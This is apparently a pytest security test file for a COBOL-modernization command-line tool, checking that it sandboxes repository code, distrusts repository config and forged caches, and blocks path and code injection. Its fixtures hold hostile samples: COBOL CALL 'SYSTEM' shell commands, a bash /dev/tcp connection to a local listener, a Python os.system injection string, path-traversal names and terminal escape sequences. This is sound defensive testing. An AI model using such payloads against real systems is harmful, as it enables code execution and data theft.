"""A hostile repository: its code never runs unless asked (then sandboxed), its config cannot widen
trust, its store is not ours, its names cannot leave OUT or become Python, and dirt does not crash.

Every input is generated here. Each test asserts the safe outcome: no marker file written by the
estate's code, no request reaching a loopback listener, no file outside OUT, generated tests that
pytest collects, and a clear line instead of a traceback.
"""

from __future__ import annotations

import json
import os
import re
import socket
import sqlite3
import subprocess
import sys
import threading
from pathlib import Path

import pytest
from click.testing import CliRunner

from modernize.cli import cli
from tests.conftest import fixed, write_tree
from tests.llm_server import FakeModel


def flat(text: str) -> str:
    """Console output with rich's table borders and line wrapping undone."""
    return " ".join(re.sub("[\u2500-\u257f]", " ", text).split())


def program(name: str, body: str = "", header: str = "", files: str = "", free: bool = False) -> str:
    """A batch program that reads IN-FILE and writes OUT-FILE (so tests are generated for it),
    with ``body`` statements run first; ``free`` format for statements longer than column 72."""
    text = f"""
{header} IDENTIFICATION DIVISION.
 PROGRAM-ID. {name}.
 ENVIRONMENT DIVISION.
 INPUT-OUTPUT SECTION.
 FILE-CONTROL.
     SELECT IN-FILE ASSIGN TO INDD.
     SELECT OUT-FILE ASSIGN TO OUTDD.
 DATA DIVISION.
 FILE SECTION.
 FD  IN-FILE.
 01  IN-REC.
     05  IN-CODE     PIC X(2).
 FD  OUT-FILE.
 01  OUT-REC         PIC X(2).
 WORKING-STORAGE SECTION.
 01  WS-EOF          PIC X VALUE 'N'.
{files} PROCEDURE DIVISION.
 MAIN-PARA.
{body}     OPEN INPUT IN-FILE OUTPUT OUT-FILE
     READ IN-FILE AT END MOVE 'Y' TO WS-EOF END-READ
     IF IN-CODE = 'AB'
        MOVE 'OK' TO OUT-REC
     END-IF
     WRITE OUT-REC
     CLOSE IN-FILE OUT-FILE
     GOBACK.
"""
    return "       >>SOURCE FORMAT FREE\n" + text.strip("\n") + "\n" if free else fixed(text, margin=False)


def system_call(command: str) -> str:
    return f"     CALL 'SYSTEM' USING '{command}'\n"


def run(root: Path, out: Path, *extra: str, cache: Path | None = None):
    args = ["run", str(root), "-o", str(out), "--cache-dir", str(cache or out.parent / (out.name + "-cache")), *extra]
    return CliRunner().invoke(cli, args)


class Listener:
    """A TCP listener on 127.0.0.1 that counts connections (a request that reaches it is a leak)."""

    def __init__(self) -> None:
        self.socket = socket.socket()
        self.socket.bind(("127.0.0.1", 0))
        self.socket.listen(16)
        self.socket.settimeout(0.2)
        self.connections = 0
        self.running = True
        self.thread = threading.Thread(target=self.serve, daemon=True)
        self.thread.start()

    @property
    def port(self) -> int:
        return self.socket.getsockname()[1]

    def serve(self) -> None:
        while self.running:
            try:
                connection, _ = self.socket.accept()
            except OSError:
                continue
            self.connections += 1
            connection.close()

    def close(self) -> None:
        self.running = False
        self.thread.join()
        self.socket.close()


@pytest.fixture
def listener():
    server = Listener()
    yield server
    server.close()


# -- 1. no repository code runs unless the user asks; then it runs in the sandbox --------------------


@pytest.mark.slow  # cobc
def test_run_and_tests_do_not_execute_the_estate_by_default(tmp_path, cobc):
    marker = tmp_path / "pwned.txt"
    root = write_tree(tmp_path / "repo", {"cbl/EVIL.cbl": program("EVIL", system_call(f"id > {marker}"), free=True)})
    result = run(root, tmp_path / "out")
    assert result.exit_code == 0, result.output
    assert "golden masters not captured" in flat(result.output)
    assert list((tmp_path / "out" / "tests").rglob("test_*.py"))  # tests are generated, nothing ran
    tests = CliRunner().invoke(cli, ["tests", str(root), "-o", str(tmp_path / "t"), "--cache-dir", str(tmp_path / "c")])
    assert tests.exit_code == 0, tests.output
    assert not marker.exists()
    assert not (tmp_path / "out" / "tests" / ".build").exists()


@pytest.mark.slow  # cobc and bubblewrap
def test_capture_runs_the_estate_in_a_sandbox_without_network_or_writes_outside_the_build(tmp_path, cobc, sandbox, listener):
    marker = tmp_path / "outside.txt"
    commands = (system_call(f"id > {marker}")
                + system_call(f"echo x > {tmp_path}/repo/cbl/planted.txt")
                + system_call(f"bash -c \"echo hi > /dev/tcp/127.0.0.1/{listener.port}\""))
    root = write_tree(tmp_path / "repo", {"cbl/EVIL.cbl": program("EVIL", commands, free=True)})
    result = run(root, tmp_path / "out", "--capture")
    assert result.exit_code == 0, result.output
    assert "golden master(s) captured (bubblewrap sandbox" in flat(result.output)
    golden = list((tmp_path / "out" / "tests").rglob("golden/EVIL/*/returncode"))
    assert golden  # the program did run, in the sandbox
    assert not marker.exists() and not (root / "cbl" / "planted.txt").exists()
    assert listener.connections == 0


@pytest.mark.slow  # cobc
def test_capture_refuses_without_a_sandbox_unless_told(tmp_path, cobc, monkeypatch):
    import modernize.sandbox

    marker = tmp_path / "ran.txt"
    root = write_tree(tmp_path / "repo", {"cbl/EVIL.cbl": program("EVIL", system_call(f"touch {marker}"), free=True)})
    monkeypatch.setattr(modernize.sandbox, "bwrap_works", lambda: False)
    refused = run(root, tmp_path / "out", "--capture")
    assert refused.exit_code == 2 and "--capture refused" in flat(refused.output) and "--capture-unsandboxed" in flat(refused.output)
    assert "Traceback" not in refused.output and not (tmp_path / "out").exists() and not marker.exists()
    accepted = run(root, tmp_path / "out2", "--capture", "--capture-unsandboxed")
    assert accepted.exit_code == 0, accepted.output
    assert "without a sandbox" in flat(accepted.output) and marker.exists()


@pytest.mark.slow  # cobc and bubblewrap
def test_a_killed_build_is_never_reused(tmp_path, cobc, sandbox):
    from modernize.testgen import legacy

    root = write_tree(tmp_path / "repo", {"cbl/OK.cbl": program("OK")})
    programs = {"OK": ("cbl/OK.cbl", "ascii")}
    work = tmp_path / "build"
    digest = legacy.source_digest(root, programs)[:12]
    half = work / f"OK-{digest}"
    (half / "bin").mkdir(parents=True)
    (half / "bin" / "ok").write_text("#!/bin/sh\necho stale\n")  # what a killed build could leave: no 'complete' mark
    built = legacy.build(root, "OK", programs, [], work)
    code, produced, _ = legacy.run(built, {"INDD": b"AB"}, ["OUTDD"])
    assert code == 0 and produced["OUTDD"].startswith(b"OK")


# -- 2. the repository's config cannot widen trust ------------------------------------------------


@pytest.mark.slow  # a model through litellm, whose import alone takes seconds
def test_repository_config_cannot_send_code_or_connect_anywhere(tmp_path, listener, monkeypatch):
    monkeypatch.setenv("OPENAI_API_KEY", "sk-user-secret")
    with FakeModel() as fake:
        root = write_tree(tmp_path / "repo", {
            "cbl/A.cbl": program("A"),
            "modernize.toml": (f'[modernize]\ndask_scheduler = "tcp://127.0.0.1:{listener.port}"\njobs = 150\n'
                               f'parse_timeout = 1e6\n[llm]\nmodel = "openai/x"\napi_base = "{fake.url}"\n'
                               "[tests]\ncapture = true\n"),
        })
        result = run(root, tmp_path / "out")
        assert result.exit_code == 0, result.output
        assert fake.requests == 0 and listener.connections == 0
        warning = flat(result.output)
        for key in ("modernize.dask_scheduler", "modernize.jobs", "modernize.parse_timeout", "llm.model", "llm.api_base", "tests.capture"):
            assert key in warning
        assert "--trust-repo-config" in warning
        # Trusted, the repository's values are honoured, and validated: a limit out of bounds is a clear error.
        trusted = run(root, tmp_path / "out2", "--trust-repo-config")
        assert trusted.exit_code == 2 and "parse_timeout = 1000000.0 is out of bounds" in flat(trusted.output)
        (root / "modernize.toml").write_text(f'[llm]\nmodel = "openai/x"\napi_base = "{fake.url}"\n')
        trusted = run(root, tmp_path / "out3", "--trust-repo-config")
        assert trusted.exit_code == 0 and fake.requests >= 1, trusted.output


@pytest.mark.slow  # more than about a second
def test_repository_config_cannot_read_outside_the_repository(tmp_path):
    secret_dir = write_tree(tmp_path / "home", {"SECRET.cpy": fixed(" 01  SECRET-REC PIC X(10) VALUE 'TOPSECRET'.")})
    root = write_tree(tmp_path / "repo", {
        "cbl/A.cbl": program("A", files="     COPY SECRET.\n     COPY LINKED.\n"),
        "modernize.toml": f'[modernize]\ncopybook_paths = ["{secret_dir}", "../home", "cpy"]\nfollow_symlinks = true\n',
    })
    (root / "cpy").mkdir()
    (root / "cpy" / "LINKED.cpy").symlink_to(secret_dir / "SECRET.cpy")
    out = tmp_path / "out"
    result = run(root, out)
    assert result.exit_code in (0, 1), result.output
    assert "outside the repository" in flat(result.output) and "modernize.follow_symlinks" in flat(result.output)
    leaked = [p for p in out.rglob("*") if p.is_file() and b"TOPSECRET" in p.read_bytes()]
    assert leaked == []


def test_resource_bounds_are_validated_with_clear_errors(tmp_path):
    root = write_tree(tmp_path / "repo", {"cbl/A.cbl": program("A")})
    for args in (["--parse-timeout", "1e8"], ["--jobs", "5000"], ["--max-file-size", str(1 << 50)]):
        result = CliRunner().invoke(cli, ["scan", str(root), "--cache-dir", str(tmp_path / "c"), *args])
        assert result.exit_code == 2 and "Traceback" not in result.output, (args, result.output)
    own = tmp_path / "mine.toml"
    own.write_text("[modernize]\nparse_timeout = 1e8\n")
    result = CliRunner().invoke(cli, ["scan", str(root), "--config", str(own), "--cache-dir", str(tmp_path / "c")])
    assert result.exit_code == 2 and "out of bounds" in flat(result.output)


@pytest.mark.slow  # a model through litellm, whose import alone takes seconds
def test_the_users_own_config_is_trusted(tmp_path, monkeypatch):
    with FakeModel() as fake:
        user = tmp_path / "user.toml"
        user.write_text(f'[llm]\nmodel = "openai/x"\napi_base = "{fake.url}"\n')
        monkeypatch.setenv("MODERNIZE_CONFIG", str(user))
        monkeypatch.setenv("OPENAI_API_KEY", "sk-test")
        root = write_tree(tmp_path / "repo", {"cbl/A.cbl": program("A")})
        result = CliRunner().invoke(cli, ["docs", str(root), "-o", str(tmp_path / "docs"), "--cache-dir", str(tmp_path / "c")])
        assert result.exit_code == 0, result.output
        assert fake.requests == 1


# -- 3. the store is ours ---------------------------------------------------------------------------


CALLER = program("CALLER", "     CALL 'HIDDEN'\n")


@pytest.mark.slow  # more than about a second
def test_a_store_shipped_in_the_repository_cannot_hide_calls_or_findings(tmp_path, monkeypatch):
    root = write_tree(tmp_path / "repo", {"cbl/CALLER.cbl": CALLER, "data/people.txt": "BSN 111222333\n"})
    attacker_home = tmp_path / "attacker"
    monkeypatch.setenv("XDG_CACHE_HOME", str(attacker_home))  # the attacker builds a store with their own key
    assert run(root, tmp_path / "first", cache=root / ".modernize").exit_code == 0
    from modernize.store import Store

    with Store(root / ".modernize") as store:  # forge: drop every call and finding, under the attacker's valid MACs
        rows = store.db.execute("SELECT sha256, path, parser, dependencies, facts, bodies FROM facts").fetchall()
        forged = []
        for sha, path, parser, dependencies, facts, bodies in rows:
            content = json.loads(facts)
            for module in content.get("modules", []):
                module["references"] = []
            forged.append((sha, path, parser, json.loads(dependencies), content, json.loads(bodies)))
        store.put_facts(forged)
        store.put_findings([(key, "[]") for (key,) in store.db.execute("SELECT key FROM findings").fetchall()])
        assert store.rejected == 0
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "user"))  # the user runs with their own key
    result = run(root, tmp_path / "out", cache=root / ".modernize")
    assert result.exit_code == 0, result.output
    assert "was not created by you" in flat(result.output)
    graph = json.loads((tmp_path / "out" / "graph" / "graph.json").read_text())
    assert any(e["target"].endswith("HIDDEN") for e in graph["edges"])
    findings = json.loads((tmp_path / "out" / "findings.json").read_text())
    assert findings["counts"]["bsn"] == 1


def test_a_tampered_entry_in_the_users_own_store_is_recomputed(tmp_path):
    from modernize.store import Store

    with Store(tmp_path) as store:
        store.put_facts([("abc", "a.cbl", "cobol/1", {}, {"modules": [{"name": "REAL"}]}, [{}])])
        store.put_findings([("k", '[{"kind": "bsn"}]')])
        store.put_answer("q", "m", "t", "real answer")
    db = sqlite3.connect(tmp_path / "store.sqlite")
    db.execute("""UPDATE facts SET facts='{"modules": []}'""")
    db.execute("UPDATE findings SET findings='[]'")
    db.execute("UPDATE llm_cache SET response='forged'")
    db.commit()
    db.close()
    with Store(tmp_path) as store:
        assert store.get_facts("abc", "a.cbl", "cobol/1", {}.get) is None
        assert store.get_findings("k") is None and store.get_answer("q") is None


@pytest.mark.slow  # more than about a second
@pytest.mark.parametrize("damage", ["garbage-in-the-middle", "directory", "read-only", "bad-json"])
def test_a_damaged_store_gives_one_line_and_a_full_run(tmp_path, damage):
    root = write_tree(tmp_path / "repo", {"cbl/CALLER.cbl": CALLER})
    cache = tmp_path / "cache"
    assert run(root, tmp_path / "first", cache=cache).exit_code == 0
    store = cache / "store.sqlite"
    if damage == "garbage-in-the-middle":
        with sqlite3.connect(store) as db:
            db.execute("PRAGMA wal_checkpoint(TRUNCATE)")
        data = bytearray(store.read_bytes())
        middle = len(data) // 2
        data[middle:middle + 4096] = os.urandom(4096)
        store.write_bytes(bytes(data))
    elif damage == "directory":
        for path in cache.iterdir():
            path.unlink()
        store.mkdir()
    elif damage == "read-only":
        store.chmod(0o444)
        if os.geteuid() == 0:
            subprocess.run(["chattr", "+i", str(store)], check=False, capture_output=True)
        try:
            with open(store, "ab"):
                writable = True
        except OSError:
            writable = False
        if writable:
            pytest.skip("this file system cannot make a file read-only for root (chattr +i)")
    else:
        with sqlite3.connect(store) as db:
            db.execute("UPDATE facts SET facts='{not json'")
    try:
        result = run(root, tmp_path / "out", cache=cache)
    finally:
        if damage == "read-only" and os.geteuid() == 0:
            subprocess.run(["chattr", "-i", str(store)], check=False, capture_output=True)
    assert result.exit_code == 0, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert "store:" in result.output or damage == "bad-json"  # one line says what happened to the store
    graph = json.loads((tmp_path / "out" / "graph" / "graph.json").read_text())
    assert any(e["target"].endswith("HIDDEN") for e in graph["edges"])


# -- 4. names cannot reach paths or Python -------------------------------------------------------


@pytest.mark.slow  # cobc and bubblewrap
def test_a_program_id_that_is_a_path_writes_nothing_outside_out_even_when_captured(tmp_path, cobc, sandbox):
    root = write_tree(tmp_path / "a" / "b" / "c" / "d" / "repo", {
        "cbl/X.cbl": program("'../../../../../X'"),
        "cbl/Y.cbl": program("'A/B'"),
        "cbl/Z.cbl": program("'A B'"),
        "cbl/W.cbl": program("A_B"),
    })
    out = root.parent / "out"
    before = set(tmp_path.rglob("*"))
    result = run(root, out, "--capture", cache=out / ".cache")
    assert result.exit_code == 0, result.output
    created = set(tmp_path.rglob("*")) - before
    assert [p for p in created if out not in p.parents and p != out] == []
    assert (out / "index.html").is_file()
    pages = {p.name for p in (out / "docs").iterdir()}
    assert len([p for p in pages if p.startswith("A_B")]) == 3  # A/B, A B and A_B: three distinct documents
    golden = {p.parent.parent.name for p in out.rglob("golden/*/*/returncode")}
    assert len(golden) == 2  # 'A B' and A_B; GnuCOBOL itself refuses a PROGRAM-ID with a separator in it
    assert "invalid PROGRAM-ID 'A/B'" in flat(result.output)
    assert len(list(out.rglob("test_a_b*.py"))) == 3


@pytest.mark.slow  # a run and pytest in a subprocess
def test_generated_python_compiles_and_runs_nothing_whatever_the_estate_holds(tmp_path):
    marker = tmp_path / "P"
    payload = f'"""; __import__(\'os\').system(\'touch {marker}\'); """'
    root = write_tree(tmp_path / "repo", {
        f"cbl/PROG{'A' * 3}.cbl": program("MY-PROG", header=f"*{payload}\n"),
        "cbl/9LIVES.cbl": program("9LIVES"),
        "cbl/CLASS.cbl": program("class"),
        "cbl/dir\\with\\backslash.cbl": program("BACKSL"),
        f"cbl/{payload.replace('/', '_')}.cbl": program("NAMED"),
        "modernize.toml": f"[plan]\nrename = {{ MY-PROG = {json.dumps(payload)} }}\n",
    })
    out = tmp_path / "out"
    result = run(root, out)
    assert result.exit_code == 0, result.output
    modules = list((out / "tests").rglob("test_*.py"))
    assert len(modules) == 5
    for path in modules:
        compile(path.read_text(), str(path), "exec")
    collected = subprocess.run([sys.executable, "-m", "pytest", "--collect-only", "-q", "-p", "no:cacheprovider", str(out / "tests")],
                               capture_output=True, text=True, timeout=120, cwd=out / "tests")
    assert collected.returncode == 0, collected.stdout + collected.stderr
    assert "error" not in collected.stdout.lower()
    assert "test_my_prog_golden_master" in collected.stdout and "test__9lives_golden_master" in collected.stdout
    assert not marker.exists()


# -- 5. ordinary dirt: terminal, file names ---------------------------------------------------------


def test_markup_and_control_bytes_in_file_names_print_literally(tmp_path):
    root = write_tree(tmp_path / "repo", {
        "a[/]b/X[red]Y.cbl": "not cobol [/] at all\n",
        "cbl/E\x1b]0;pwned\x07SC.cbl": "neither cobol nor anything else\n",
        "cbl/[link=https://evil.example]C[/link].cbl": program("LINK"),
    })
    (root / "cbl" / "BAD.cbl").write_bytes(b"\x00\x01 binary \x1b[2J\n")
    result = CliRunner().invoke(cli, ["scan", str(root), "--cache-dir", str(tmp_path / "c"), "--verbose"], color=True)
    assert result.exit_code in (0, 1), result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert "\x1b]0;" not in result.output and "\x07" not in result.output
    assert "\\x1b]0;pwned\\x07SC.cbl" in flat(result.output)


@pytest.mark.slow  # more than about a second
def test_a_file_name_that_is_not_utf8_is_analysed_without_a_crash(tmp_path):
    root = write_tree(tmp_path / "repo", {"cbl/OK.cbl": CALLER})
    with open(os.path.join(os.fsencode(root / "cbl"), b"W\xffRLD.cbl"), "w") as handle:
        handle.write(program("WORLD"))
    out = tmp_path / "out"
    result = run(root, out)
    assert result.exit_code == 0, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    facts = json.loads((out / "facts.json").read_text(encoding="utf-8"))
    assert {m["name"] for m in facts["modules"]} >= {"CALLER", "WORLD"}
    rerun = run(root, out)
    assert rerun.exit_code == 0 and "is up to date" in rerun.output


# -- 6. OUT is ours ------------------------------------------------------------------------------


@pytest.mark.slow  # more than about a second
def test_a_folder_modernize_did_not_write_is_not_overwritten_without_force(tmp_path):
    root = write_tree(tmp_path / "repo", {"cbl/A.cbl": program("A")})
    out = write_tree(tmp_path / "mine", {"index.html": "my own page", "facts.json": "{}", "tests/conftest.py": "# mine",
                                         "notes.txt": "mine, and not a name modernize writes"})
    refused = run(root, out)
    assert refused.exit_code == 2 and "--force" in flat(refused.output)
    assert (out / "index.html").read_text() == "my own page" and (out / "tests" / "conftest.py").read_text() == "# mine"
    forced = run(root, out, "--force")
    assert forced.exit_code == 0, forced.output
    manifest = json.loads((out / ".modernize-output.json").read_text())
    assert manifest["foreign"] == ["notes.txt"] and "plan/plan.md" in manifest["files"] and "index.html" in manifest["files"]
    again = run(root, out, "--lang", "nl")  # once claimed, reruns need no --force
    assert again.exit_code == 0, again.output
    assert (out / "notes.txt").read_text() == "mine, and not a name modernize writes"


@pytest.mark.slow  # cobc and bubblewrap
def test_capture_asked_in_the_users_own_config(tmp_path, cobc, sandbox, monkeypatch):
    user = tmp_path / "user.toml"
    user.write_text("[tests]\ncapture = true\n")
    monkeypatch.setenv("MODERNIZE_CONFIG", str(user))
    root = write_tree(tmp_path / "repo", {"cbl/OK.cbl": program("OK")})
    result = run(root, tmp_path / "out")
    assert result.exit_code == 0, result.output
    assert "golden master(s) captured (bubblewrap sandbox" in flat(result.output)
